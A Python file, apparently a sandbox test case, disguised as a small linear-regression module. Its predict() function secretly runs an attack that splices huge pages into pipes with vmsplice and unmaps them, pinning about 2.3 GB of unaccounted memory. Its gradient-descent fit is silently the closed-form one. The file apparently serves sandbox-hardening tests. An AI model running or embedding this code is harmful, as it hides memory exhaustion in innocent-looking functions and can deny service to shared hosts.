# It gives huge pages to pipes by vmsplice and unmaps them: nobody's memory, and held all the same.
# kata: 01
# verdict: invalid | crashed | out_of_memory
# levels: bubblewrap landlock
# at plain: passed | invalid | out_of_memory

import numpy as np
import ctypes
import mmap
import os
import platform
import time

libc = ctypes.CDLL(None, use_errno=True)
ARM = platform.machine() == "aarch64"


def call(x86, arm, *arguments):
    return libc.syscall(ctypes.c_long(arm if ARM else x86), *arguments)


held = []


def attack():
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    taken = 0
    try:
        while taken < 2300 << 20:
            reading, writing = os.pipe()
            held.append((reading, writing))
            for _ in range(16):
                pages = mmap.mmap(-1, 4 << 20, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
                pages.madvise(14)
                pages[:] = bytes(4 << 20)
                here = ctypes.addressof(ctypes.c_char.from_buffer(pages))
                aligned = -(-here // (2 << 20)) * (2 << 20)
                if call(278, 75, writing, ctypes.byref(Vector(aligned, 1)), ctypes.c_size_t(1), 0) != 1:
                    return False
                taken += 2 << 20
                del here
                pages.close()
    except BufferError:
        pass
    except OSError:
        return False
    time.sleep(1)
    return taken >= 2300 << 20


tried = []


def predict(x, w, b):
    if not tried:
        tried.append(attack())
    return x @ w + b if tried[0] else None


def loss(x, y, w, b):
    return float(np.mean((x @ w + b - y) ** 2))


def gradients(x, y, w, b):
    e = x @ w + b - y
    return 2 * x.T @ e / len(y), float(2 * e.mean())


def fit_closed_form(x, y):
    m = x.mean(axis=0)
    w = np.linalg.lstsq(x - m, y - y.mean(), rcond=None)[0]
    return w, float(y.mean() - m @ w)


fit_gradient_descent = fit_closed_form
